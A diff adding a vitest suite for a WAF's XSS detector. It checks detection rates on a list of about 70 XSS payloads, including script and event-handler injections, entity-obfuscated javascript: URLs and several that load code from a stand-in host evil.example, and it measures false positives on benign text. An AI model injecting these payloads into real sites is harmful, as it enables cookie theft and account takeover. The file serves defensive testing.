@@ -1,0 +1,151 @@
+/**
+ * XSS detector (issue 5, point 3) on real vectors (script tags, event handlers, javascript: URLs
+ * with entity and whitespace obfuscation, svg/onload, img/onerror, iframe srcdoc, case tricks,
+ * attribute break-outs, CSS expression, comment and CDATA tricks) and on benign text: prose,
+ * telemetry, URLs, e-mail addresses in angle brackets, math with < and >, multilingual text.
+ * Bar: >= 95% detected, <= 1% false positives; knowingly missed vectors go in knownMisses.
+ */
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { detectXss } from '../../src/shield/waf/xss/index.ts';
+
+const XSS_ATTACKS: string[] = [
+  // script tags and case tricks
+  '<script>alert(1)</script>', '<SCRIPT>alert(document.cookie)</SCRIPT>', '<ScRiPt>alert(1)</sCrIpT>',
+  '<script src=//evil.example/x.js></script>', '<script/src="data:,alert(1)">', '"><script>alert(1)</script>',
+  "'><script>alert(String.fromCharCode(88,83,83))</script>", '</title><script>alert(1)</script>',
+  '<script\x20type="text/javascript">javascript:alert(1);</script>', '<scr<script>ipt>alert(1)</script>',
+  '<script >alert(1)</script >', '<script\n>alert(1)</script>',
+  // event handlers
+  '<img src=x onerror=alert(1)>', '<IMG SRC=x ONERROR=alert(1)>', '<img src="x" onerror="alert(1)">',
+  '<body onload=alert(1)>', '<svg onload=alert(1)>', '<svg/onload=alert(1)>', '<div onmouseover="alert(1)">x</div>',
+  '<input autofocus onfocus=alert(1)>', '<video><source onerror="alert(1)">', '<audio src=x onerror=alert(1)>',
+  '<details open ontoggle=alert(1)>', '<marquee onstart=alert(1)>', '<select autofocus onfocus=alert(1)>',
+  '<textarea autofocus onfocus=alert(1)>', '<keygen autofocus onfocus=alert(1)>', '<a onclick="alert(1)">x</a>',
+  '<img src=x:alert(alt) onerror=eval(src) alt=0>', '<body onpageshow=alert(1)>', '<x onpointerenter=alert(1)>hover',
+  '" onmouseover="alert(1)', "' onfocus='alert(1)' autofocus='", '" autofocus onfocus=alert(1) x="', 'x onerror=alert(1)',
+  '<img src=1 href=1 onerror="javascript:alert(1)"></img>', '<img/src/onerror=alert(1)>', '<img src=x onerror\x0b=alert(1)>',
+  // javascript: URLs with entity / whitespace obfuscation
+  '<a href="javascript:alert(1)">x</a>', '<a href="JaVaScRiPt:alert(1)">x</a>', '<a href="jav&#x09;ascript:alert(1)">x</a>',
+  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
+  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
+  '<a href="javascript&colon;alert(1)">x</a>', '<a href=" javascript:alert(1)">x</a>', '<a href="java\nscript:alert(1)">x</a>',
+  '<a href="vbscript:msgbox(1)">x</a>', '<form action="javascript:alert(1)"><input type=submit>',
+  '<button formaction="javascript:alert(1)">x</button>', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
+  'javascript:alert(1)', 'javascript:alert(document.domain)', ' javascript:alert`1`', 'jav&#x0A;ascript:alert(1)',
+  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
+  // iframes, objects, embeds, svg, meta, base, style
+  '<iframe src="javascript:alert(1)"></iframe>', '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<iframe src=//evil.example>', '<object data="javascript:alert(1)">', '<embed src="data:image/svg+xml;base64,PHN2Zz4=">',
+  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', '<base href="javascript:alert(1)//">',
+  '<link rel=stylesheet href="javascript:alert(1)">', '<style>@import "javascript:alert(1)";</style>',
+  '<div style="width: expression(alert(1))">', '<div style="-moz-binding: url(http://evil.example/xss.xml#xss)">',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', '<svg><script>alert(1)</script></svg>',
+  // comments and CDATA
+  '<!--<img src="--><img src=x onerror=alert(1)//">', '<![CDATA[<script>alert(1)</script>]]>', '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
+  // tag with attribute assignment
+  '<a href="http://evil.example" target=_blank>win a prize</a>', '<p style="color:red">x</p>', '<x y="z">',
+];
+const BENIGN_HTMLISH: string[] = [
+  'a < b', 'x<3', '1 < 2 > 0', '<joe@example.org>', 'Joe Smith <joe@example.org>', 'I <3 you', '<-- back', 'if (a<b && c>d) {}',
+  'x<y and y=3', 'value <= 10', 'Temperature < 5 °C', 'cost: $5 < $10', 'JavaScript: The Good Parts', 'JavaScript: a guide',
+  'Note: see page 3', 'time: 12:30', 'https://example.com/?a=1&b=2', 'onion rings', 'online', 'one=1', 'on=true', 'onload time is 5s',
+  'The "onerror" handler is documented', 'regular expression(s) are useful', 'Call expression (a + b)', 'a=b c=d',
+  'style=bold', 'href=https://example.com', 'src: camera-3', 'data:1234', 'Data: none', 'vbscript is old', 'script kiddie',
+  'my <script> tag example'.replace('<script>', 'script'), '<<< arrows >>>', 'foo<bar', '<3 <3 <3', '2<x<5', '<b', '< b >', '<!>',
+];
+
+const BENIGN_TEXT: string[] = [
+  // prose with apostrophes and quotes
+  "don't", "I can't believe it's not butter", "O'Brien's pub is open", "Rock 'n' roll", "It's 5 o'clock somewhere",
+  "the students' and teachers' lounge", "James' or John's car", "She said \"hello\" and left", "He's the one who said 'no'",
+  "Let's meet at Mary's", "we're out of 'premium' beans", "It's a 'must-see' -- really", "You're right; I'm wrong",
+  "\"quoted\" text with \"two\" quotes", "the 'best' option", "l'été à Paris", "Don't forget: 3 > 2",
+  // SQL-like English
+  "select the best option from the menu", "Please select one and order by phone", "union of workers and employers",
+  "Drop me a line; I'll update you", "insert the card, then select PIN", "group by age or by region",
+  "delete old files and empty the trash", "Sleep well (8 hours)", "I need sleep (lots of it)", "where is the table?",
+  "having fun or not", "like it or not", "1 and 2 are both numbers", "5 or more", "apples and 3 oranges",
+  "cats & dogs", "rock & roll", "Tom & Jerry's", "true or false?", "null and void", "order #12345",
+  "Case 1: the user logs in", "user_id", "Is it 1-2 or 2-3?", "you and me -- forever", "Chapter 1 -- Introduction",
+  "Q&A session", "R&D department", "AT&T", "Johnson & Johnson", "ID: 42 (primary)", "see note (1)",
+  // product names, ids, telemetry values
+  "Model X-200 (2024)", "SKU-12345-AB", "v2.3.1-beta", "temperature", "ok", "online", "firmware 1.0.4",
+  "550e8400-e29b-41d4-a716-446655440000", "2024-05-01T12:30:00Z", "12.5", "-40", "1e-3", "0x1F", "#ff0000",
+  "sensor/room-1/temp", "C++ & C#", "50% off!", "$19.99", "A+B=C", "x=1&y=2", "key=value", "a=b; c=d",
+  // JSON-ish snippets
+  '{"temp": 21.5, "unit": "C"}', '{"status":"ok","code":200}', '["a","b","c"]', '{"name":"O\'Brien"}',
+  '{"query":"select a seat"}', '{"msg": "it\'s fine"}', "key: 'value'", "items[0].name", "data.values[3]",
+  // URLs and e-mail addresses
+  "https://example.com/path?q=1&lang=en", "http://localhost:8080/api/v1/devices", "/api/users/42",
+  "mailto:joe@example.org", "joe@example.org", "<joe@example.org>", "ftp://files.example.com/pub/",
+  "https://en.wikipedia.org/wiki/O'Reilly_Media", "https://example.com/#section-2",
+  // math with < and >
+  "a < b", "x<3", "1 < 2 > 0", "if x > 5 then y", "3 <= 4", "a <> b", "2 * (3 + 4) = 14", "f(x) = x^2 + 1",
+  "(a + b) * c", "sum(x) / n", "1/2 + 1/3", "5 > 3 and 2 < 4", "x = (y - 1) / 2", "e = mc^2", "-1 * -1 = 1",
+  // multilingual
+  "Grüße aus München", "Ça va très bien, merci", "¿Dónde está la biblioteca?", "日本語のテキストです", "中文测试：温度传感器",
+  "Привет, как дела?", "مرحبا بالعالم", "שלום עולם", "नमस्ते दुनिया", "안녕하세요", "Ελληνικά κείμενο",
+  "🙂 all good 👍", "température élevée (38°C)", "naïve café", "Straße & Weg", "Ølbryggeri A/S", "İstanbul'da hava güzel",
+  "c'est l'heure", "dell'Italia", "Wie geht's?", "l'hôtel d'Orsay",
+  // misc
+  "password123", "P@ssw0rd!", "user@domain", "@mention me", "#hashtag", "-- signature", "/* not a comment */ text",
+  "Hello; World", "Hello; select a seat", "1; 2; 3", "a;b;c", "x -- y", "50-50", "one--two",
+];
+
+/** Vectors this detector does not flag, each with why; the test fails if the list is wrong. */
+const knownMisses = new Set<string>([]);
+
+describe('detectXss', () => {
+  const benign = [...BENIGN_TEXT, ...BENIGN_HTMLISH];
+
+  it('has enough real samples', () => {
+    expect(XSS_ATTACKS.length).toBeGreaterThanOrEqual(60);
+    expect(benign.length).toBeGreaterThanOrEqual(100);
+  });
+
+  it.each(XSS_ATTACKS.filter((s) => !knownMisses.has(s)))('detects %s', (s) => {
+    const r = detectXss(s);
+    expect(r.detected).toBe(true);
+    expect(r.fingerprint).toMatch(/^(tag|attr|url|css):[a-z0-9:+-]+$|^(comment|cdata|doctype)$/);
+  });
+
+  it('misses only the known misses, and detects >= 95%', () => {
+    const missed = XSS_ATTACKS.filter((s) => !detectXss(s).detected);
+    expect(missed.sort()).toEqual([...knownMisses].sort());
+    expect(1 - missed.length / XSS_ATTACKS.length).toBeGreaterThanOrEqual(0.95);
+  });
+
+  it.each(benign)('does not flag %s', (s) => {
+    expect(detectXss(s)).toEqual({ detected: false });
+  });
+
+  it('names what it found', () => {
+    expect(detectXss('<script>alert(1)</script>').fingerprint).toBe('tag:script');
+    expect(detectXss('<img src=x onerror=alert(1)>').fingerprint).toBe('attr:onerror');
+    expect(detectXss('<a href="jav&#x09;ascript:alert(1)">x</a>').fingerprint).toBe('url:javascript');
+    expect(detectXss('" onmouseover="alert(1)').fingerprint).toBe('attr:onmouseover');
+  });
+
+  it('never throws and stays bounded on arbitrary strings', () => {
+    fc.assert(
+      fc.property(fc.string({ unit: 'binary', maxLength: 300 }), (s) => {
+        expect(typeof detectXss(s).detected).toBe('boolean');
+      }),
+      { numRuns: 2000 },
+    );
+    fc.assert(
+      fc.property(fc.array(fc.constantFrom('<', '>', '/', '"', "'", '`', '=', ' ', 'a', 'script', 'on', 'onerror', 'href', 'javascript:', '&#', 'x;', '<!--', '-->', '<![CDATA['), { maxLength: 60 }), (parts) => {
+        expect(typeof detectXss(parts.join('')).detected).toBe('boolean');
+      }),
+      { numRuns: 2000 },
+    );
+  });
+
+  it('handles 1 MB inputs', () => {
+    const mb = 1 << 20;
+    const inputs = ['<a '.repeat(mb / 3), '<'.repeat(mb), '="'.repeat(mb / 2), '<!--'.repeat(mb / 4), 'x=y '.repeat(mb / 4), '&#'.repeat(mb / 2)];
+    for (const s of inputs) expect(typeof detectXss(s).detected).toBe('boolean');
+    expect(detectXss('<b>'.repeat(1000) + '<script>alert(1)</script>').detected).toBe(true);
+  });
+});
